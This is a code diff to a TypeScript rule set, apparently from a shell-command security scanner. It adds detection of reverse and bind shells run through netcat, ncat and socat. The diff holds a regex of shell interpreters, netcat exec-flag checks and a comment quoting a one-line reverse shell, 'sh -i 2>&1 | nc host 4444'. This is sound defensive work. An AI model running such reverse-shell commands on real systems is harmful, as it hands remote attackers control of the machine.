@@ -1,4 +1,4 @@
-import type { Rule } from '../rule'
+import type { CommandView, Rule } from '../rule'
 import { hasFlag } from '../options'
 import { exfiltration, SECRET_PATH } from './exposure'
 
@@ -139,17 +139,45 @@ const wget: Rule = (c) => {
   )
 }
 
+/** Programs that hand whoever is on the other end a command line. */
+const SHELL_PROGRAM =
+  /(^|\/)(sh|bash|zsh|dash|ksh|mksh|ash|fish|csh|tcsh|cmd(\.exe)?|powershell(\.exe)?|pwsh|python[\d.]*|perl|ruby|php|node)$/i
+
+/**
+ * `sh -i 2>&1 | nc host 4444`: a shell whose input or output is this connection is a reverse
+ * shell; whoever is on the other end runs commands here.
+ */
+function shellOverNetwork(c: CommandView): boolean {
+  const stdin = c.cmd.stdin
+  const pipeline = stdin.kind !== 'none' && 'pipeline' in stdin ? stdin.pipeline : undefined
+  const shell = pipeline?.find(
+    (p) =>
+      SHELL_PROGRAM.test(p.words[0]?.value ?? '') &&
+      p.words.slice(1).every((w) => /^-[a-z]*$/i.test(w.value)),
+  )
+  if (!shell) return false
+  c.emit(
+    'net.reverse-shell',
+    'critical',
+    `Reverse shell: ${shell.words[0]!.value} reads and answers over the network through ${c.name}`,
+    { start: stdin.kind === 'none' ? c.cmd.span.start : stdin.span.start, end: c.nameArg.span.end },
+  )
+  return true
+}
+
 const netcat: Rule = (c) => {
-  if (exfiltration(c)) return
+  if (shellOverNetwork(c) || exfiltration(c)) return
   const opts = c.opts({ shortWithValue: 'epsiwWqxXIO' })
-  if (
-    opts.values.has('e') ||
-    c.args.some((a) => a.value === '-c' || a.value === '--exec' || a.value === '--sh-exec')
-  ) {
+  const exec = opts.values.get('e') ?? opts.long.get('exec')
+  const shellString = c.args.find((a) => /^(-c|--sh-exec)$/.test(a.value))
+  if (exec !== undefined || shellString) {
+    const shell = shellString !== undefined || SHELL_PROGRAM.test(String(exec))
     c.emit(
-      'net.shell',
-      'high',
-      'Connects a shell to the network (bind or reverse shell)',
+      shell ? 'net.reverse-shell' : 'net.shell',
+      shell ? 'critical' : 'high',
+      shell
+        ? `Bind or reverse shell: gives whoever connects a shell on this machine (${shellString ? shellString.value : `-e ${String(exec)}`})`
+        : `Connects ${String(exec)} to the network (bind or reverse shell pattern)`,
       c.nameArg,
     )
   } else if (hasFlag(opts, 'l', 'listen'))
@@ -181,9 +209,19 @@ export const networkRules: Record<string, Rule> = {
   ncat: netcat,
   netcat,
   socat: (c) => {
-    if (exfiltration(c)) return
-    if (c.args.some((a) => /exec:|system:/i.test(a.value)))
-      c.emit('net.shell', 'high', 'Connects a program or shell to the network', c.nameArg)
+    if (shellOverNetwork(c) || exfiltration(c)) return
+    const exec = c.args.find((a) => /^(exec|system):/i.test(a.value))
+    const network = c.args.some((a) => /^(tcp|tcp4|tcp6|udp|ssl|openssl)[\w-]*:/i.test(a.value))
+    if (!exec) return
+    const program = exec.value.replace(/^\w+:/, '').split(/[,\s]/)[0] ?? ''
+    if (network && SHELL_PROGRAM.test(program))
+      c.emit(
+        'net.reverse-shell',
+        'critical',
+        `Bind or reverse shell: connects ${program} to the network, so whoever is on the other end runs commands here`,
+        exec,
+      )
+    else c.emit('net.shell', 'high', 'Connects a program or shell to the network', exec)
   },
   scp,
   sftp: (c) => c.emit('net.copy', 'moderate', 'Opens a file transfer session', c.nameArg),
